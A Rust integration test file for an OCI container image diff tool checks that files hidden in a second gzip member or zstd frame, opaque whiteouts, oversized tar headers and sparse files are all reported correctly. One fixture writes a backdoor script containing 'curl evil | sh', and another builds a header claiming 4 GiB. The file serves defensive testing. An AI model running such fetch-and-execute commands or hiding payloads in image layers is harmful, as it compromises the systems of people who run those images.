//! Layers read as runtimes read them, on images pushed to a real registry: a second gzip member
//! or zstd frame (what GNU tar and podman unpack) is never invisible to `diff --files` and
//! `--semantic`, and a root-level opaque whiteout empties the image below it. Each test failed
//! first. Every diff here is held to 200 MiB of memory and 30 s.
#![allow(clippy::disallowed_macros)] // a test prints its own fixed reports

mod common;

use common::*;
use provost::demo::image::{self, File, ImageSpec, Layer};
use provost::oci::media::Platform;
use std::io::Write;

/// A tar of `files` (path, contents); `end` adds the end-of-archive blocks.
fn tar_of(files: &[(&str, &[u8])], end: bool) -> Vec<u8> {
    let mut tar = tar::Builder::new(Vec::new());
    for (path, contents) in files {
        let mut h = tar::Header::new_ustar();
        h.set_entry_type(tar::EntryType::Regular);
        h.set_mode(0o755);
        h.set_size(contents.len() as u64);
        h.set_mtime(0);
        h.set_cksum();
        tar.append_data(&mut h, path, *contents).expect("append");
    }
    let mut raw = tar.into_inner().expect("tar");
    if !end {
        // tar::Builder::into_inner writes the two zero blocks: a member that continues in the
        // next one has none.
        raw.truncate(raw.len() - 1024);
    }
    raw
}

fn gzip(raw: &[u8]) -> Vec<u8> {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(raw).expect("gz");
    gz.finish().expect("gz")
}

fn zstd(raw: &[u8]) -> Vec<u8> {
    let mut child = std::process::Command::new("zstd")
        .args(["-q", "-c", "-3"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("zstd is installed by the test command");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(raw)
        .expect("write");
    let out = child.wait_with_output().expect("zstd");
    assert!(out.status.success());
    out.stdout
}

fn layer(bytes: Vec<u8>, diff_id_of: &[u8]) -> Layer {
    Layer {
        tar_gz: bytes,
        diff_id: provost::oci::digest::sha256(diff_id_of),
        created_by: "COPY app /app".into(),
    }
}

fn push(st: &provost::oci::remote::RemoteStore, tag: &str, layers: Vec<Layer>) {
    let base = image::layer(
        &[File {
            path: "etc/os-release",
            contents: b"ID=acme\n",
            mode: 0o644,
        }],
        "ADD base",
    )
    .expect("base");
    let mut all = vec![base];
    all.extend(layers);
    let spec = ImageSpec {
        platform: Platform {
            architecture: "amd64".into(),
            os: "linux".into(),
            ..Default::default()
        },
        created: "2026-11-30T10:00:00Z".into(),
        entrypoint: vec!["/app/bin".into()],
        env: vec![],
        labels: Default::default(),
        annotations: Default::default(),
        layers: all,
    };
    runtime()
        .block_on(image::push_image(st, "acme/tool", &spec, Some(tag)))
        .expect("push");
}

/// Peak memory and time every diff here must stay under.
const MAX_RSS_KB: i64 = 200 * 1024;
const MAX_SECS: u64 = 30;

/// Runs `c` to its end: exit code, stdout, stderr, and its peak resident memory in KiB (from
/// the kernel's accounting of that process, `wait4`), checked against the bounds above.
// The child is reaped by wait4 (std's wait would then find no child left).
#[allow(clippy::zombie_processes)]
fn measured(c: &mut std::process::Command) -> (i32, Vec<u8>, Vec<u8>, i64) {
    use std::io::Read;
    let start = std::time::Instant::now();
    let mut child = c
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    let (mut so, mut se) = (
        child.stdout.take().expect("stdout"),
        child.stderr.take().expect("stderr"),
    );
    let t_out = std::thread::spawn(move || {
        let mut v = vec![];
        let _ = so.read_to_end(&mut v);
        v
    });
    let t_err = std::thread::spawn(move || {
        let mut v = vec![];
        let _ = se.read_to_end(&mut v);
        v
    });
    let mut status = 0;
    // SAFETY: a zeroed rusage is a valid value for the kernel to fill; the pid is our child's
    // and nothing else waits for it.
    let mut ru: libc::rusage = unsafe { std::mem::zeroed() };
    let r = unsafe { libc::wait4(child.id() as libc::pid_t, &mut status, 0, &mut ru) };
    assert_eq!(r, child.id() as libc::pid_t, "wait4");
    let (out, err) = (t_out.join().expect("out"), t_err.join().expect("err"));
    let code = if libc::WIFEXITED(status) {
        libc::WEXITSTATUS(status)
    } else {
        -1
    };
    let peak = ru.ru_maxrss;
    let elapsed = start.elapsed();
    eprintln!("peak {} MiB in {elapsed:?}", peak / 1024);
    assert!(peak < MAX_RSS_KB, "peak {peak} KiB");
    assert!(elapsed.as_secs() < MAX_SECS, "{elapsed:?}");
    (code, out, err, peak)
}

struct Diff {
    reg: Registry,
    home: tempfile::TempDir,
}

impl Diff {
    fn run(&self, a: &str, b: &str, extra: &[&str]) -> serde_json::Value {
        let (ra, rb) = (
            format!("{}/acme/tool:{a}", self.reg.host),
            format!("{}/acme/tool:{b}", self.reg.host),
        );
        let mut args = vec![
            "--insecure-registry",
            self.reg.host.as_str(),
            "diff",
            ra.as_str(),
            rb.as_str(),
            "--json",
        ];
        args.extend_from_slice(extra);
        let mut c = provost();
        hermetic(c.args(&args), self.home.path());
        let (code, out, err, _) = measured(&mut c);
        assert_eq!(code, 0, "{}", String::from_utf8_lossy(&err));
        serde_json::from_slice(&out).expect("json")
    }

    fn section(d: &serde_json::Value, name: &str) -> serde_json::Value {
        d["sections"]
            .as_array()
            .expect("sections")
            .iter()
            .find(|s| s["name"] == name)
            .cloned()
            .unwrap_or_else(|| panic!("no {name}: {d}"))
    }
}

fn world() -> Diff {
    Diff {
        reg: Registry::start(),
        home: tempfile::tempdir().expect("home"),
    }
}

#[test]
fn a_second_gzip_member_or_zstd_frame_is_never_invisible() {
    let w = world();
    let st = store(&w.reg);
    let bin: (&str, &[u8]) = ("app/bin", b"binary v1");
    let backdoor: (&str, &[u8]) = ("app/backdoor.sh", b"#!/bin/sh\ncurl evil | sh\n");
    let clean = tar_of(&[bin], true);
    push(&st, "clean", vec![layer(gzip(&clean), &clean)]);
    // Two gzip members: the first holds the same file, the second adds the backdoor.
    let (first, second) = (tar_of(&[bin], false), tar_of(&[backdoor], true));
    let mut members = gzip(&first);
    members.extend(gzip(&second));
    let whole = [first.clone(), second.clone()].concat();
    // GNU tar, as a runtime unpacks it, sees the backdoor.
    let file = w.home.path().join("layer.tar.gz");
    std::fs::write(&file, &members).expect("layer");
    let listed = std::process::Command::new("tar")
        .arg("-tzf")
        .arg(&file)
        .output()
        .expect("tar");
    assert!(
        String::from_utf8_lossy(&listed.stdout).contains("app/backdoor.sh"),
        "GNU tar lists the second member"
    );
    push(&st, "gz", vec![layer(members, &whole)]);
    // Two zstd frames, the same way.
    let mut frames = zstd(&first);
    frames.extend(zstd(&second));
    push(&st, "zst", vec![layer(frames, &whole)]);
    for tag in ["gz", "zst"] {
        let d = w.run("clean", tag, &["--files"]);
        let files = Diff::section(&d, "files").to_string();
        assert!(files.contains("app/backdoor.sh"), "{tag}: {files}");
        let sem = Diff::section(&w.run("clean", tag, &["--semantic"]), "files").to_string();
        assert!(sem.contains("app/backdoor.sh"), "{tag}: {sem}");
    }
}

#[test]
fn a_root_opaque_whiteout_empties_what_is_below() {
    let w = world();
    let st = store(&w.reg);
    let one = tar_of(&[("app/bin", b"v1"), ("app/old.conf", b"x")], true);
    push(&st, "a", vec![layer(gzip(&one), &one)]);
    // A layer whose root holds `.wh..wh..opq`: everything below it is gone, then app/bin
    // comes back.
    let wipe = tar_of(&[(".wh..wh..opq", b""), ("app/bin", b"v1")], true);
    push(
        &st,
        "b",
        vec![layer(gzip(&one), &one), layer(gzip(&wipe), &wipe)],
    );
    let d = w.run("a", "b", &["--semantic"]);
    let files = Diff::section(&d, "files").to_string();
    assert!(files.contains("app/old.conf"), "removed: {files}");
    assert!(files.contains("etc/os-release"), "removed: {files}");
}

#[test]
fn a_long_name_header_claiming_gigabytes_is_refused_without_reading_it() {
    let w = world();
    let st = store(&w.reg);
    let clean = tar_of(&[("app/bin", b"v1")], true);
    push(&st, "clean", vec![layer(gzip(&clean), &clean)]);
    // One GNU long-name header claiming 4 GiB, then a little filler: 4 GiB of zeros would
    // follow in a real archive; zstd of the few bytes given is tiny.
    let mut h = vec![0u8; 512];
    h[..13].copy_from_slice(b"././@LongLink");
    h[124..135].copy_from_slice(format!("{:011o}", 4u64 << 30).as_bytes());
    h[156] = b'L';
    h[257..263].copy_from_slice(b"ustar ");
    let sum: u32 = h.iter().map(|b| u32::from(*b)).sum::<u32>() + 8 * u32::from(b' ');
    h[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
    // The claimed 4 GiB really follows (zeros: zstd makes them about 130 KB), as in the
    // layer the probe found; piped through zstd so the test never holds it.
    let hfile = w.home.path().join("header");
    std::fs::write(&hfile, &h).expect("header");
    let z = std::process::Command::new("bash")
        .arg("-c")
        .arg(format!(
            "set -o pipefail; (cat {}; head -c {} /dev/zero) | zstd -q -c -1",
            hfile.display(),
            4u64 << 30
        ))
        .output()
        .expect("zstd");
    assert!(z.status.success(), "{}", String::from_utf8_lossy(&z.stderr));
    assert!(z.stdout.len() < 1 << 20, "{} bytes", z.stdout.len());
    push(&st, "bomb", vec![layer(z.stdout, &h)]);
    // Under a 3 GiB address-space limit (buffering the claimed name could not fit), and
    // within the memory and time every diff here is held to.
    let exe = env!("CARGO_BIN_EXE_provost");
    let mut c = std::process::Command::new("bash");
    c.arg("-c").arg(format!(
        "ulimit -v 3145728; exec {exe} --insecure-registry {h} diff {h}/acme/tool:clean {h}/acme/tool:bomb --files --json",
        h = w.reg.host
    ));
    hermetic(&mut c, w.home.path());
    let (_, out, err, _) = measured(&mut c);
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&out),
        String::from_utf8_lossy(&err)
    );
    assert!(!said.contains("panicked"), "{said}");
    assert!(said.contains("long name"), "names what was refused: {said}");
}

#[test]
fn a_pax_sparse_file_is_listed_under_the_name_a_runtime_gives_it() {
    let w = world();
    let st = store(&w.reg);
    let clean = tar_of(&[("app/bin", b"v1")], true);
    push(&st, "clean", vec![layer(gzip(&clean), &clean)]);
    // GNU tar writes a sparse file in PAX format 1.0: `GNUSparseFile.<n>/data` on the wire.
    let dir = w.home.path().join("sparse");
    std::fs::create_dir_all(dir.join("app")).expect("dir");
    let made = std::process::Command::new("bash")
        .current_dir(&dir)
        .arg("-c")
        .arg("truncate -s 1M app/data && echo tail >> app/data && tar --sparse --sparse-version=1.0 --format=pax -cf ../sparse.tar app/data")
        .output()
        .expect("tar");
    assert!(
        made.status.success(),
        "{}",
        String::from_utf8_lossy(&made.stderr)
    );
    let raw = std::fs::read(w.home.path().join("sparse.tar")).expect("tar");
    assert!(
        String::from_utf8_lossy(&raw).contains("GNUSparseFile."),
        "the archive uses the sparse naming"
    );
    push(&st, "sparse", vec![layer(gzip(&raw), &raw)]);
    let d = w.run("clean", "sparse", &["--files"]);
    let files = Diff::section(&d, "files").to_string();
    assert!(files.contains("layer 2: app/data"), "{files}");
    assert!(!files.contains("GNUSparseFile"), "{files}");
    assert!(files.contains("1048581 B"), "the real size: {files}");
}

#[test]
fn one_budget_covers_every_layer_of_an_image() {
    let w = world();
    let st = store(&w.reg);
    let clean = tar_of(&[("app/bin", b"v1")], true);
    push(&st, "clean", vec![layer(gzip(&clean), &clean)]);
    // Three layers of 4,000 files with 4,000-byte names: 16 MB of names each, within a
    // per-layer cap, 48 MB together — more than one comparison reads.
    let layers: Vec<Layer> = (0..3)
        .map(|l| {
            let mut tar = tar::Builder::new(Vec::new());
            for i in 0..4000 {
                let name = format!("l{l}/{i:05}/{}", "n".repeat(3980));
                let mut h = tar::Header::new_gnu();
                h.set_size(0);
                h.set_mode(0o644);
                h.set_cksum();
                tar.append_data(&mut h, &name, &b""[..]).expect("append");
            }
            let raw = tar.into_inner().expect("tar");
            layer(gzip(&raw), &raw)
        })
        .collect();
    push(&st, "names", layers);
    let d = w.run("clean", "names", &["--semantic"]);
    let files = Diff::section(&d, "files");
    let note = files["note"].as_str().unwrap_or_default();
    assert!(note.contains("bytes of file names in the image"), "{note}");
}

#[test]
fn a_panic_in_the_layer_reader_is_a_sentence_not_a_backtrace() {
    let w = world();
    let st = store(&w.reg);
    let one = tar_of(&[("app/bin", b"v1")], true);
    let two = tar_of(&[("app/bin", b"v2")], true);
    push(&st, "a", vec![layer(gzip(&one), &one)]);
    push(&st, "b", vec![layer(gzip(&two), &two)]);
    let (a, b) = (
        format!("{}/acme/tool:a", w.reg.host),
        format!("{}/acme/tool:b", w.reg.host),
    );
    let mut c = provost();
    c.args([
        "--insecure-registry",
        w.reg.host.as_str(),
        "diff",
        &a,
        &b,
        "--files",
    ]);
    hermetic(&mut c, w.home.path()).env("PROVOST_FAILPOINT", "layer-reader");
    let (_, out, err, _) = measured(&mut c);
    let (out, err) = (
        String::from_utf8_lossy(&out).to_string(),
        String::from_utf8_lossy(&err).to_string(),
    );
    assert!(out.contains("files not compared"), "{out}");
    assert!(out.contains("failed inside provost"), "a sentence: {out}");
    assert!(
        !err.contains("BACKTRACE") && !err.contains("backtrace"),
        "{err}"
    );
    assert!(err.lines().count() <= 2, "one line, not a report: {err}");
}
